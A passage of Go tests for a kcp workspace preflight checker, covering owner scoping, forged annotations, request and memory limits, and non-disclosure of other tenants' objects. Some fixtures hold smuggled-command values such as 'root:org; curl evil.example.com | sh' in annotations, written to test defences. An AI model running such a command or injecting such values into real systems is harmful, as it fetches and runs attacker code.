				child(k).Status = corev1alpha1.LogicalClusterStatus{Phase: corev1alpha1.LogicalClusterPhaseReady}
				k.clusters["root:org:child"] = append(k.clusters["root:org:child"], binding(apisv1alpha2.APIBindingPhaseBound))
			},
			wantBinding: preflight.Yes, wantVerdict: preflight.Yes,
		},
		"Ready, with a terminator that acts as an owner in scope": {
			given: func(k *fakeKCP) {
				k.clusters["root:org:child"] = []client.Object{terminated(`{"username":"alice"}`), binding(apisv1alpha2.APIBindingPhaseBound)}
			},
			wantBinding: preflight.Yes, wantVerdict: preflight.Yes,
		},
		"Ready, with a terminator that acts as a user who is scoped elsewhere": {
			given: func(k *fakeKCP) {
				k.clusters["root:org:child"] = []client.Object{terminated(scopedAlice.String()), binding(apisv1alpha2.APIBindingPhaseBound)}
			},
			want:        []preflight.Finding{foreignToTerminators},
			wantBinding: preflight.Yes, wantVerdict: preflight.Yes,
		},
		"Ready, with a terminator that acts as itself": {
			given: func(k *fakeKCP) {
				lc := terminated(scopedAlice.String())
				lc.Status.Terminators[0] = corev1alpha1.LogicalClusterTerminator(homeCluster + ":team")
				k.clusters["root:org:child"] = []client.Object{lc, binding(apisv1alpha2.APIBindingPhaseBound)}
				for _, object := range k.clusters["root:org"] {
					if wt, ok := object.(*tenancyv1alpha1.WorkspaceType); ok {
						wt.Spec.TerminatorPermissions = []rbacv1.PolicyRule{{Verbs: []string{"*"}}}
					}
				}
			},
			wantBinding: preflight.Yes, wantVerdict: preflight.Yes,
		},
		"Ready, and made inactive, with the owner reduced on the Workspace alone": {
			given: func(k *fakeKCP) {
				lc := terminated(`{"username":"alice","groups":["staff"]}`)
				lc.Status = corev1alpha1.LogicalClusterStatus{Phase: corev1alpha1.LogicalClusterPhaseInactive}
				k.clusters["root:org:child"] = []client.Object{lc, binding(apisv1alpha2.APIBindingPhaseBound)}
				ws := k.clusters["root:org"][1].(*tenancyv1alpha1.Workspace) //nolint:errcheck,forcetypeassert // newKCP put it there
				ws.Annotations["experimental.tenancy.kcp.io/owner"], ws.Status.Phase = `{"username":"alice"}`, corev1alpha1.LogicalClusterPhaseReady
			},
			want:        []preflight.Finding{{Reason: preflight.NotReady, Message: "the workspace is Inactive"}},
			wantBinding: preflight.Yes, wantVerdict: preflight.No,
		},
		"being deleted, with such a terminator": {
			given: func(k *fakeKCP) {
				lc := terminated(scopedAlice.String())
				lc.DeletionTimestamp, lc.Finalizers = &metav1.Time{Time: time.Now()}, []string{"kcp.io/has-terminators"}
				k.clusters["root:org:child"] = []client.Object{lc}
			},
			want:        []preflight.Finding{foreignToTerminators, {Reason: preflight.NotReady, Message: "the workspace is being deleted"}},
			wantVerdict: preflight.No,
		},
		"Ready, with a terminator that acts as an administrator": {
			given: func(k *fakeKCP) {
				k.clusters["root:org:child"] = []client.Object{
					terminated(`{"username":"alice","groups":["system:masters"]}`), binding(apisv1alpha2.APIBindingPhaseBound),
				}
				k.clusters["root:org"][1].GetAnnotations()["experimental.tenancy.kcp.io/owner"] = `{"username":"alice"}`
			},
			want: []preflight.Finding{{
				Reason: preflight.PrivilegedOwner, Advisory: true,
				Message: `when the workspace is deleted, terminators whose WorkspaceType has no terminatorPermissions act as its owner, user "alice", ` +
					"with an administrator's permissions (system:masters)",
				Next: "ask whether its creator is an administrator; if not, " + terminatorsNext,
			}},
			wantBinding: preflight.Yes, wantVerdict: preflight.Yes,
		},
		"Ready, and open to every user who takes the name of an owner whose home is known": {
			given: func(k *fakeKCP) {
				ready := childOf(rawServiceAccount.String())
				ready.Status = corev1alpha1.LogicalClusterStatus{Phase: corev1alpha1.LogicalClusterPhaseReady}
				k.clusters["root:org:child"] = []client.Object{ready}
			},
			want: []preflight.Finding{{
				Reason: preflight.OwnerForeign,
				Message: `the owner "system:serviceaccount:default:bot" is the bare name of a service account of another workspace: ` +
					"anyone who creates a service account of that name in this one is its administrator",
				Next: repairNext,
			}},
			wantBinding: preflight.No, wantVerdict: preflight.No,
		},
		"Ready, and open to every user who takes the owner's name": {
			given: func(k *fakeKCP) {
				ready := childOf(`{"username":"system:serviceaccount:default:bot"}`)
				ready.Status = corev1alpha1.LogicalClusterStatus{Phase: corev1alpha1.LogicalClusterPhaseReady}
				k.clusters["root:org:child"] = []client.Object{ready}
			},
			want: []preflight.Finding{{
				Reason: preflight.OwnerForeign,
				Message: `the owner "system:serviceaccount:default:bot" is the bare name of a service account of another workspace: ` +
					"anyone who creates a service account of that name in this one is its administrator",
				Next: "move to a new workspace: kcp no longer records the home of the service account, so this one cannot be repaired",
			}},
			wantBinding: preflight.No, wantVerdict: preflight.No,
		},
	} {
		t.Run(name, func(t *testing.T) {
			k := newKCP()
			if tc.given != nil {
				tc.given(k)
			}
			checker := k.checker(t)
			ws, err := checker.Load(t.Context(), logicalcluster.NewPath("root:org:child"))
			if err != nil {
				t.Fatal(err)
			}
			report := checker.Check(t.Context(), ws)
			if diff := cmp.Diff(tc.want, report.Findings, cmpopts.EquateEmpty()); diff != "" {
				t.Errorf("findings (-want +got):\n%s", diff)
			}
			if got := preflight.Verdict(report.Findings); got != tc.wantVerdict {
				t.Errorf("verdict = %s, want %s", got, tc.wantVerdict)
			}
			var answer preflight.Answer
			if len(report.Bindings) > 0 {
				answer = report.Bindings[0].Answer
			}
			if answer != tc.wantBinding {
				t.Errorf("bindings = %+v, want %q", report.Bindings, tc.wantBinding)
			}
		})
	}
}

// A user who may impersonate in a workspace can claim to be any service account of any logical cluster (kcp-dev/kcp#4226). The messages are
// also in Events about its workspace.
func TestPathOfAClaimedHomeIsInNoMessage(t *testing.T) {
	k := newKCP()
	k.clusters["root:org:child"] = []client.Object{childOf(identity.Owner{
		Username: "system:kcp:serviceaccount:" + apisCluster.String() + ":default:bot",
		Extra:    map[string][]string{identity.ScopesKey: {"cluster:" + homeCluster.String()}},
	}.String())}
	checker := k.checker(t)
	ws, err := checker.Load(t.Context(), childCluster.Path())
	if err != nil {
		t.Fatal(err)
	}
	const want = `service account default/bot of 2ckxs5l4w09g7c29 lacks "bind" on the APIExport "widgets" in root:apis`
	if findings := checker.Check(t.Context(), ws).Findings; !slices.ContainsFunc(findings, func(f preflight.Finding) bool { return f.Message == want }) {
		t.Errorf("findings = %+v, want %s", findings, want)
	}
}

// A tenant can write the type of its workspace.
func TestTypesNeedALimitedNumberOfRequests(t *testing.T) {
	const most = 50
	k := newKCP()
	for _, object := range k.clusters["root:org"] {
		if wt, ok := object.(*tenancyv1alpha1.WorkspaceType); ok {
			for i := range 1000 {
				wt.Spec.DefaultAPIBindings = append(wt.Spec.DefaultAPIBindings, tenancyv1alpha1.APIExportReference{
					Path: "root:none" + strings.Repeat(":a", 10), Export: fmt.Sprintf("export-%d", i),
				})
			}
		}
	}
	checker := k.checker(t)
	ws, err := checker.Load(t.Context(), childCluster.Path())
	if err != nil {
		t.Fatal(err)
	}
	requests, clients := 0, checker.Client
	checker.Client = func(at logicalcluster.Path) (client.Client, error) {
		requests++
		return clients(at)
	}
	checker.MaxRequests = most
	report := checker.Check(t.Context(), ws)
	if requests != most || len(report.Findings) > most || report.NothingMissing() {
		t.Errorf("%d requests, findings %+v, want %d requests and a finding that not all was determined", requests, report.Findings, most)
	}
	if last := report.Findings[len(report.Findings)-1]; last.Reason != preflight.Undetermined {
		t.Errorf("last finding = %+v, want %s", last, preflight.Undetermined)
	}
}

// A tenant can write a MiB into each of its types and API bindings.
func TestLargeObjectsAreNotHeld(t *testing.T) {
	const objects, size, most = 100, 256 << 10, 8 << 20
	extended := func(i int) tenancyv1alpha1.WorkspaceTypeReference {
		return tenancyv1alpha1.WorkspaceTypeReference{Path: "root:org", Name: tenancyv1alpha1.WorkspaceTypeName(fmt.Sprintf("large-%d", i))}
	}
	long := func(i int) string { return fmt.Sprintf("a%d", i) + strings.Repeat(":a", size/2) }
	for name, tc := range map[string]struct {
		grow             func(wt *tenancyv1alpha1.WorkspaceType, i int)
		wantUndetermined bool
	}{
		"labels": {grow: func(wt *tenancyv1alpha1.WorkspaceType, i int) {
			wt.Spec.AdditionalWorkspaceLabels = map[string]string{"a": long(i)}
		}},
		"permissions": {grow: func(wt *tenancyv1alpha1.WorkspaceType, _ int) {
			wt.Spec.InitializerPermissions = make([]rbacv1.PolicyRule, size/120)
		}},
		"paths of types": {grow: func(wt *tenancyv1alpha1.WorkspaceType, i int) {
			wt.Spec.Extend.With = []tenancyv1alpha1.WorkspaceTypeReference{{Path: long(i), Name: "a"}}
		}, wantUndetermined: true},
		"paths of APIExports": {grow: func(wt *tenancyv1alpha1.WorkspaceType, i int) {
			wt.Spec.DefaultAPIBindings = []tenancyv1alpha1.APIExportReference{{Path: long(i), Export: "a"}}
		}, wantUndetermined: true},
		"API bindings": {},
	} {
		t.Run(name, func(t *testing.T) {
			k := newKCP()
			checker := k.checker(t)
			checker.MaxRequests = 4 * objects
			ws, err := checker.Load(t.Context(), childCluster.Path())
			if err != nil {
				t.Fatal(err)
			}
			held := func() uint64 {
				var stats runtime.MemStats
				runtime.GC()
				runtime.ReadMemStats(&stats)
				return stats.HeapAlloc
			}
			begin, during, pages := held(), uint64(0), 0
			intercept(&checker, interceptor.Funcs{
				Get: func(ctx context.Context, c client.WithWatch, key client.ObjectKey, into client.Object, options ...client.GetOption) error {
					wt, ok := into.(*tenancyv1alpha1.WorkspaceType)
					if !ok || tc.grow == nil {
						return c.Get(ctx, key, into, options...)
					}
					var i int
					if n, _ := fmt.Sscanf(key.Name, "large-%d", &i); n == 0 { // the type of the workspace
						for i := range objects {
							wt.Spec.Extend.With = append(wt.Spec.Extend.With, extended(i))
						}
					} else {
						tc.grow(wt, i)
					}
					wt.Name = key.Name
					at(wt, homeCluster, "root:org")
					if i == objects-1 {
						during = held()
					}
					return nil
				},
				List: func(ctx context.Context, c client.WithWatch, into client.ObjectList, options ...client.ListOption) error {
					list, ok := into.(*apisv1alpha2.APIBindingList)
					if !ok || tc.grow != nil {
						return c.List(ctx, into, options...)
					}
					large := binding(apisv1alpha2.APIBindingPhaseBound)
					large.Spec.Reference.Export.Path = long(pages)
					list.Items = []apisv1alpha2.APIBinding{*large}
					if pages++; pages < objects {
						list.Continue = "x"
					} else {
						during = held()
					}
					return nil
				},
			})
			report := checker.Check(t.Context(), ws)
			for _, now := range []uint64{during, held()} {
				if now == 0 || now > begin+most {
					t.Errorf("%d KiB before the check, and %d KiB with it", begin>>10, now>>10)
				}
			}
			if undetermined := slices.ContainsFunc(report.Findings, func(f preflight.Finding) bool {
				return f.Reason == preflight.Undetermined && !f.Advisory
			}); undetermined != tc.wantUndetermined {
				t.Errorf("findings = %.1000v, want one that not all was determined: %t", report.Findings, tc.wantUndetermined)
			}
		})
	}
}

// The administrator of a workspace can write a path of any length into its LogicalCluster.
func TestForgedPathNeedsALimitedNumberOfRequests(t *testing.T) {
	k := newKCP()
	child(k).Annotations["kcp.io/path"] = strings.Repeat("a:", 500) + "a"
	checker := k.checker(t)
	requests, clients := 0, checker.Client
	checker.Client = func(at logicalcluster.Path) (client.Client, error) {
		requests++
		return clients(at)
	}
	ws, err := checker.Load(t.Context(), childCluster.Path())
	if err != nil || ws.Path != childCluster.String() || requests > 50 {
		t.Errorf("Load() = %+v, %v, with %d requests", ws, err, requests)
	}
}

// A user who may write the type of a workspace can make it extend the type of another tenant, which kcp checked when the workspace was created. A
// report for readers of Events says nothing about it.
func TestTypesOfOthersAreNotReported(t *testing.T) {
	usable := newKCP().permissions
	for name, tc := range map[string]struct {
		permissions []string
		change      func(*fakeKCP)
		unknown     bool // the review of "use" fails
		hide        bool
		want        string
		wantReason  preflight.Reason
	}{
		"all are reported": {
			permissions: without(usable, "alice use base root:apis"),
			want:        `lacks "bind" on the APIExport "widgets"`, wantReason: preflight.BindPermissionMissing,
		},
		"the owner may not use it": {
			permissions: without(usable, "alice use base root:apis"), hide: true,
			want: "it is not named, because", wantReason: preflight.BindPermissionMissing,
		},
		"it is not known whether the owner may use it": {
			permissions: usable, unknown: true, hide: true,
			want: "it is not named, because", wantReason: preflight.BindPermissionMissing,
		},
		"the owner may use it": {
			permissions: usable, hide: true,
			want: `lacks "bind" on the APIExport "widgets"`, wantReason: preflight.BindPermissionMissing,
		},
		"one is incomplete, and the APIExport of another one is missing": {
			permissions: without(usable, "alice use base root:apis"), hide: true,
			change: func(k *fakeKCP) {
				for _, o := range k.clusters["root:apis"] {
					if wt, ok := o.(*tenancyv1alpha1.WorkspaceType); ok {
						wt.Spec.DefaultAPIBindings = append(wt.Spec.DefaultAPIBindings, tenancyv1alpha1.APIExportReference{Export: "gadgets"})
					}
				}
				k.clusters["root:org:child"] = append(k.clusters["root:org:child"], binding(apisv1alpha2.APIBindingPhaseBinding))
			},
			want: "it is not named, because", wantReason: preflight.BindPermissionMissing,
		},
	} {
		t.Run(name, func(t *testing.T) {
			k := newKCP()
			k.permissions = without(tc.permissions, "alice bind widgets root:apis")
			if tc.change != nil {
				tc.change(k)
			}
			checker := k.checker(t)
			checker.HideUnusableTypes = tc.hide
			if tc.unknown {
				intercept(&checker, interceptor.Funcs{Create: func(
					ctx context.Context, c client.WithWatch, object client.Object, options ...client.CreateOption,
				) error {
					if review, ok := object.(*authorizationv1.SubjectAccessReview); ok && review.Spec.ResourceAttributes.Verb == "use" {
						return errors.New("timeout")
					}
					return c.Create(ctx, object, options...)
				}})
			}
			ws, err := checker.Load(t.Context(), childCluster.Path())
			if err != nil {
				t.Fatal(err)
			}
			report := checker.Check(t.Context(), ws)
			if !slices.ContainsFunc(report.Findings, func(f preflight.Finding) bool {
				return f.Reason == tc.wantReason && !f.Advisory && strings.Contains(f.Message, tc.want)
			}) {
				t.Errorf("findings %+v, want %s: %s", report.Findings, tc.wantReason, tc.want)
			}
			if named := strings.Contains(fmt.Sprint(report), "widgets"); named != strings.Contains(tc.want, "widgets") {
				t.Errorf("widgets are named: %t, report %+v", named, report)
			}
			if report.NothingMissing() {
				t.Error("nothing is missing")
			}
		})
	}
}

// Nor does it say which types the type of another tenant extends.
func TestTypesThatTypesOfOthersExtendAreNotReported(t *testing.T) {
	k := newKCP()
	k.permissions = without(k.permissions, "alice use base root:apis")
	for _, o := range k.clusters["root:apis"] {
		if wt, ok := o.(*tenancyv1alpha1.WorkspaceType); ok {
			wt.Spec.Extend.With = []tenancyv1alpha1.WorkspaceTypeReference{{Name: "secret-a", Path: "root:apis"}, {Name: "secret-b", Path: "root:apis"}}
		}
	}
	k.clusters["root:apis"] = append(k.clusters["root:apis"], at(&tenancyv1alpha1.WorkspaceType{
		ObjectMeta: metav1.ObjectMeta{Name: "secret-a"},
		Spec:       tenancyv1alpha1.WorkspaceTypeSpec{DefaultAPIBindings: []tenancyv1alpha1.APIExportReference{{Export: "gadgets"}}},
	}, apisCluster, "root:apis"))
	checker := k.checker(t)
	checker.HideUnusableTypes = true
	ws, err := checker.Load(t.Context(), childCluster.Path())
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, finding := range checker.Check(t.Context(), ws).Findings {
		if !finding.Advisory { // those are in no Event
			got = append(got, string(finding.Reason)+": "+finding.Message)
		}
	}
	want := []string{
		"TypeMissing: a type that the type root:org:team extends does not exist",
		"BindPermissionMissing: a default API binding of the type root:org:team, or of one that it extends, is missing or incomplete, or could not be determined; " +
			`it is not named, because user "alice" does not certainly have "use" on the type that has it`,
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("findings (-want +got):\n%s", diff)
	}
}

// Nor whether an APIExport exists that the owner may not bind, or the workspace that could have it.
func TestAPIExportsOfOthersAreNotReported(t *testing.T) {
	reported := func(t *testing.T, permissions []string, victim ...client.Object) (found []string) {
		t.Helper()
		k := newKCP()
		k.permissions = append(k.permissions, permissions...)
		for _, o := range k.clusters["root:org"] {
			if wt, ok := o.(*tenancyv1alpha1.WorkspaceType); ok {
				wt.Spec.DefaultAPIBindings = []tenancyv1alpha1.APIExportReference{{Path: "root:victim", Export: "secret"}}
			}
		}
		if len(victim) > 0 {
			k.names["victimcluster"] = "root:victim"
			k.clusters["root"] = append(k.clusters["root"], &tenancyv1alpha1.Workspace{ObjectMeta: metav1.ObjectMeta{Name: "victim"}})
			k.clusters["root:victim"] = victim
		}
		checker := k.checker(t)
		checker.HideUnusableTypes = true
		ws, err := checker.Load(t.Context(), childCluster.Path())
		if err != nil {
			t.Fatal(err)
		}
		for _, finding := range checker.Check(t.Context(), ws).Findings {
			found = append(found, fmt.Sprintf("%s: %s; %s", finding.Reason, finding.Message, finding.Next))
		}
		return found
	}
	workspace := at(logicalCluster(), "victimcluster", "root:victim")
	export := at(&apisv1alpha2.APIExport{ObjectMeta: metav1.ObjectMeta{Name: "secret"}}, "victimcluster", "root:victim")

	without := reported(t, nil)
	if len(without) != 1 || !strings.HasPrefix(without[0], `BindPermissionMissing: user "alice" lacks "bind" on the APIExport "secret" in root:victim, or there is none; `) {
		t.Errorf("findings %q", without)
	}
	for what, exists := range map[string][]client.Object{"the workspace": {workspace}, "the APIExport": {workspace, export}} {
		if diff := cmp.Diff(without, reported(t, nil, exists...)); diff != "" {
			t.Errorf("%s is disclosed (-without +with):\n%s", what, diff)
		}
	}
	permitted := reported(t, []string{"alice bind secret root:victim"}, workspace)
	if len(permitted) != 1 || !strings.HasPrefix(permitted[0], `APIExportMissing: there is no APIExport "secret" in root:victim`) {
		t.Errorf("findings for an owner who may bind it: %q", permitted)
	}
}

// intercept makes a checker send its requests through the functions.
func intercept(checker *preflight.Checker, funcs interceptor.Funcs) {
	clients := checker.Client
	checker.Client = func(at logicalcluster.Path) (client.Client, error) {
		c, err := clients(at)
		within, ok := c.(client.WithWatch)
		if err != nil || !ok {
			return c, err
		}
		return interceptor.NewClient(within, funcs), nil
	}
}

// A tenant can create any number of API bindings in its workspace, of more than a MiB each.
func TestAPIBindingsAreReadInPages(t *testing.T) {
	for name, tc := range map[string]struct {
		pages int
		want  preflight.Answer
	}{
		"some pages": {pages: 5, want: preflight.Yes},
		"too many":   {pages: 1000, want: preflight.Unknown},
	} {
		t.Run(name, func(t *testing.T) {
			k := newKCP()
			checker := k.checker(t)
			ws, err := checker.Load(t.Context(), childCluster.Path())
			if err != nil {
				t.Fatal(err)
			}
			read := 0
			checker.MaxRequests = 50
			intercept(&checker, interceptor.Funcs{List: func(
				ctx context.Context, c client.WithWatch, into client.ObjectList, options ...client.ListOption,
			) error {
				list, ok := into.(*apisv1alpha2.APIBindingList)
				if !ok {
					return c.List(ctx, into, options...)
				}
				given := (&client.ListOptions{}).ApplyOptions(options)
				if given.Limit < 1 || given.Limit > 10 || given.Continue != strings.Repeat("x", read) {
					t.Errorf("page %d is read with %+v", read, given)
				}
				if read++; read < tc.pages {
					list.Continue = strings.Repeat("x", read)
					return nil
				}
				list.Items = []apisv1alpha2.APIBinding{*binding(apisv1alpha2.APIBindingPhaseBound)}
				return nil
			}})
			report := checker.Check(t.Context(), ws)
			answer := preflight.Unknown
			if len(report.Bindings) > 0 {
				answer = report.Bindings[0].Answer
			}
			if answer != tc.want || read > checker.MaxRequests {
				t.Errorf("%d pages are read, bindings %+v, want %s", read, report.Bindings, tc.want)
			}
		})
	}
}

// grantTo is the permission to bind the APIExport widgets.
func grantTo(suffix string, subject rbacv1.Subject) *preflight.Grant {
	return &preflight.Grant{Workspace: "root:apis", Objects: []client.Object{
		&rbacv1.ClusterRole{
			TypeMeta:   metav1.TypeMeta{APIVersion: "rbac.authorization.k8s.io/v1", Kind: "ClusterRole"},
			ObjectMeta: metav1.ObjectMeta{Name: "warrantgate:bind:widgets"},
			Rules: []rbacv1.PolicyRule{{
				APIGroups: []string{"apis.kcp.io"}, Resources: []string{"apiexports"}, ResourceNames: []string{"widgets"}, Verbs: []string{"bind"},
			}},
		},
		&rbacv1.ClusterRoleBinding{
			TypeMeta:   metav1.TypeMeta{APIVersion: "rbac.authorization.k8s.io/v1", Kind: "ClusterRoleBinding"},
			ObjectMeta: metav1.ObjectMeta{Name: "warrantgate:bind:widgets:" + suffix},
			RoleRef:    rbacv1.RoleRef{APIGroup: "rbac.authorization.k8s.io", Kind: "ClusterRole", Name: "warrantgate:bind:widgets"},
			Subjects:   []rbacv1.Subject{subject},
		},
	}}
}

func binding(phase apisv1alpha2.APIBindingPhaseType) *apisv1alpha2.APIBinding {
	return &apisv1alpha2.APIBinding{
		ObjectMeta: metav1.ObjectMeta{Name: "widgets-12345"},
		Spec: apisv1alpha2.APIBindingSpec{Reference: apisv1alpha2.BindingReference{
			Export: &apisv1alpha2.ExportBindingReference{Path: apisCluster.String(), Name: "widgets"},
		}},
		Status: apisv1alpha2.APIBindingStatus{Phase: phase},
	}
}

// claiming is an API binding with an accepted permission claim, bound by kcp.
func claiming(conditions ...conditionsv1alpha1.Condition) *apisv1alpha2.APIBinding {
	claiming := binding(apisv1alpha2.APIBindingPhaseBound)
	claiming.Spec.PermissionClaims = []apisv1alpha2.AcceptablePermissionClaim{{State: apisv1alpha2.ClaimAccepted}}
	claiming.Status.Conditions = append(conditionsv1alpha1.Conditions{
		{Type: apisv1alpha2.BindingUpToDate, Status: corev1.ConditionFalse, Message: "another condition"},
	}, conditions...)
	return claiming
}

// waitingOnBindings is what kcp records when it has created all default API bindings, and they are not complete.
var waitingOnBindings = conditionsv1alpha1.Conditions{{
	Type: tenancyv1alpha1.WorkspaceAPIBindingsInitialized, Status: corev1.ConditionFalse,
	Reason: tenancyv1alpha1.WorkspaceInitializedWaitingOnAPIBindings, Message: "APIBinding(s) not yet fully bound",
}}

func TestWorkspacesThatCannotBeRead(t *testing.T) {
	const denied = "if kcp denied its creation, `warrantgate explain workspace %s --creator=USER --type=PATH:NAME` says what USER lacks"
	for name, tc := range map[string]struct {
		path      string
		closed    []string
		requester string
		want      string
	}{
		"none of this name":         {path: "root:org:other", want: `there is no workspace "other" in root:org; ` + fmt.Sprintf(denied, "root:org:other")},
		"none of its parent's name": {path: "root:other:child", want: "there is no workspace root:other"},
		"none above its parent":     {path: "root:other:org:child", want: "there is no workspace root:other"},
		"no logical cluster":        {path: "3ckxs5l4w09g7c29", want: "3ckxs5l4w09g7c29 could not be read: your kubeconfig does not reach 3ckxs5l4w09g7c29"},
		"neither it nor its parent": {
			path: "root:org:child", closed: []string{"root:org", "root:org:child"},
			want: `root:org:child could not be read: you lack "get" on workspaces.tenancy.kcp.io in root:org, or access to that workspace, or the shard that has it is down; ` +
				`you lack "get" on logicalclusters.core.kcp.io in root:org:child, or access to that workspace, or the shard that has it is down`,
		},
		"neither it nor its parent, as a service account": {
			path: "root:org:child", closed: []string{"root:org", "root:org:child"}, requester: "system:serviceaccount:default:bot",
			want: `root:org:child could not be read: you lack "get" on workspaces.tenancy.kcp.io in root:org, or access to that workspace, or the shard that has it is down; ` +
				`kcp authenticates you as "system:serviceaccount:default:bot"; a service account cannot use workspaces.tenancy.kcp.io outside its home, ` +
				`whatever its permissions: for that workspace, use the kubeconfig of a user with a client certificate; ` +
				`you lack "get" on logicalclusters.core.kcp.io in root:org:child, or access to that workspace, or the shard that has it is down; ` +
				`kcp authenticates you as "system:serviceaccount:default:bot"`,
		},
	} {
		t.Run(name, func(t *testing.T) {
			k := newKCP()
			k.closed, k.requester = tc.closed, tc.requester
			ws, err := k.checker(t).Load(t.Context(), logicalcluster.NewPath(tc.path))
			if err == nil || err.Error() != tc.want {
				t.Errorf("Load() = %+v, %v, want %s", ws, err, tc.want)
			}
		})
	}
}

// The findings contain commands with the path of the workspace and of its type.
func TestAnnotationsThatAreNoPathsAreIgnored(t *testing.T) {
	k := newKCP()
	for _, annotation := range []string{"kcp.io/path", "internal.tenancy.kcp.io/type"} {
		child(k).Annotations[annotation] = "root:org; curl evil.example.com | sh"
	}
	ws, err := k.checker(t).Load(t.Context(), childCluster.Path())
	if err != nil || ws.Path != childCluster.String() || ws.Type != "" {
		t.Errorf("Load() = %+v, %v", ws, err)
	}
}

// The administrator of a workspace can write these annotations of its LogicalCluster.
func TestForgedAnnotationsOfALogicalCluster(t *testing.T) {
	k := newKCP()
	for key, value := range map[string]string{"kcp.io/path": "root:apis", "warrantgate.dev/created-by": "root-boss", "warrantgate.dev/rewritten-by": "policy"} {
		child(k).Annotations[key] = value
	}
	ws, err := k.checker(t).Load(t.Context(), logicalcluster.NewPath("root:org:child"))
	if err != nil || ws.Path != "root:org:child" || ws.CreatedBy != "" || ws.RewrittenBy != "" {
		t.Errorf("Load() = %+v, %v", ws, err)
	}
}

// The administrator of a workspace can write the path of another workspace into its LogicalCluster, and kcp believes it.
func TestForgedPathOfALogicalCluster(t *testing.T) {
	const want = `the annotation kcp.io/path of the LogicalCluster is %q, which is not the path of this workspace: kcp gives it to the APIExports and ` +
		`WorkspaceTypes that are written here, and binds no APIExport of the same name in the workspace that has this path, because there are several`
	for name, tc := range map[string]struct {
		path, load, wantPath string
		down, conflict       bool // down: the shard of the path does not answer
	}{
		"its own, by the path":                    {path: "root:org:child", load: "root:org:child", wantPath: "root:org:child"},
		"its own, by the logical cluster":         {path: "root:org:child", load: childCluster.String(), wantPath: "root:org:child"},
		"another's, by the path":                  {path: "root:apis", load: "root:org:child", wantPath: "root:org:child", conflict: true},
		"another's, by the logical cluster":       {path: "root:apis", load: childCluster.String(), wantPath: childCluster.String(), conflict: true},
		"no path, by the path":                    {path: "root:org; sh", load: "root:org:child", wantPath: "root:org:child", conflict: true},
		"no path, by the logical cluster":         {path: "root:org; sh", load: childCluster.String(), wantPath: childCluster.String(), conflict: true},
		"nobody's, by the path":                   {path: "root:org:other", load: "root:org:child", wantPath: "root:org:child", conflict: true},
		"one that cannot be read, by the path":    {path: "root:apis", down: true, load: "root:org:child", wantPath: "root:org:child", conflict: true},
		"one that cannot be read, by the cluster": {path: "root:apis", down: true, load: childCluster.String(), wantPath: childCluster.String()},
	} {
		t.Run(name, func(t *testing.T) {
			k := newKCP()
			if tc.down {
				k.down = []string{"root:apis"}
			}
			child(k).Annotations["kcp.io/path"] = tc.path
			ws, err := k.checker(t).Load(t.Context(), logicalcluster.NewPath(tc.load))
			if err != nil || ws.Path != tc.wantPath {
				t.Fatalf("Load() = %+v, %v", ws, err)
			}
			report := k.checker(t).Check(t.Context(), ws)
			i := slices.IndexFunc(report.Findings, func(f preflight.Finding) bool { return f.Reason == preflight.PathDiffers })
			if (i >= 0) != tc.conflict {
				t.Errorf("findings %+v, want a conflict: %t", report.Findings, tc.conflict)
			} else if i >= 0 && (report.Findings[i].Message != fmt.Sprintf(want, tc.path) || !report.Findings[i].Advisory) {
				t.Errorf("finding %+v", report.Findings[i])
			}
		})
	}
}

// Without its path, the name of the Workspace is unknown.
func TestNoCommandChangesAWorkspaceWithoutAPath(t *testing.T) {
	k := newKCP()
	lc := childOf(identity.Owner{Username: "alice", Groups: []string{"system:kcp:admin"}}.String())
	lc.Status.Initializers, lc.Annotations["kcp.io/path"] = nil, ""
	k.clusters["root:org:child"] = []client.Object{lc, binding(apisv1alpha2.APIBindingPhaseBound)}
	ws, err := k.checker(t).Load(t.Context(), childCluster.Path())
	if err != nil || ws.Path != childCluster.String() {
		t.Fatalf("Load() = %+v, %v", ws, err)
	}
	const want = "wait some seconds; if it stays, as after an outage of a shard, " + tryAgain
	findings := k.checker(t).Check(t.Context(), ws).Findings
	if !slices.ContainsFunc(findings, func(f preflight.Finding) bool { return f.Reason == preflight.NotReady && f.Next == want }) {
		t.Errorf("findings = %+v, want one with %q", findings, want)
	}
}

// An administrator would apply the objects of a finding in the workspace of that path.
func TestForgedPathOfAWorkspaceType(t *testing.T) {
	k := newKCP()
	for _, object := range k.clusters["root:org"] {
		if _, ok := object.(*tenancyv1alpha1.WorkspaceType); ok {
			object.GetAnnotations()["kcp.io/path"] = "root:apis"
		}
	}
	ws, err := k.checker(t).Load(t.Context(), logicalcluster.NewPath("root:org:child"))
	if err != nil {
		t.Fatal(err)
	}
	for _, typed := range k.checker(t).Check(t.Context(), ws).Types {
		if typed.Name == "root:apis:team" {
			t.Errorf("the type is named %s", typed.Name)
		}
	}
}

// Before kcp protects the annotation, the administrator of a workspace can write a type that this user may not read into the LogicalCluster. Reports
// and Events must not contain the default API bindings of that type.
func TestForgedTypeOfALogicalCluster(t *testing.T) {
	const want = `the annotation internal.tenancy.kcp.io/type of the LogicalCluster is "root:apis:secret", but the type of the Workspace is "root:org:team": ` +
		"kcp creates the default API bindings of the former"
	for name, load := range map[string]func(preflight.Checker) (preflight.Workspace, error){
		"by the path, with the Workspace": func(c preflight.Checker) (preflight.Workspace, error) {
			return c.Load(t.Context(), logicalcluster.NewPath("root:org:child"))
		},
		"by the logical cluster, with the type of the Workspace": func(c preflight.Checker) (preflight.Workspace, error) {
			ws, err := c.Load(t.Context(), childCluster.Path())
			return ws.WithType("root:org:team"), err
		},
	} {
		t.Run(name, func(t *testing.T) {
			k := newKCP()
			secret := at(&tenancyv1alpha1.WorkspaceType{ObjectMeta: metav1.ObjectMeta{Name: "secret"}}, apisCluster, "root:apis")
			secret.Spec.DefaultAPIBindings = []tenancyv1alpha1.APIExportReference{{Path: "root:apis", Export: "hidden"}}
			k.clusters["root:apis"] = append(k.clusters["root:apis"], secret)
			for _, object := range k.clusters["root:org"] {
				if ws, ok := object.(*tenancyv1alpha1.Workspace); ok && ws.Name == "child" {
					ws.Spec.Type = &tenancyv1alpha1.WorkspaceTypeReference{Path: "root:org", Name: "team"}
				}
			}
			child(k).Annotations["internal.tenancy.kcp.io/type"] = "root:apis:secret"
			ws, err := load(k.checker(t))
			if err != nil {
				t.Fatal(err)
			}
			report := k.checker(t).Check(t.Context(), ws)
			if report.Workspace.Type != "root:org:team" || strings.Contains(fmt.Sprint(report.Bindings, report.Findings), "hidden") {
				t.Errorf("Check() = %+v", report)
			}
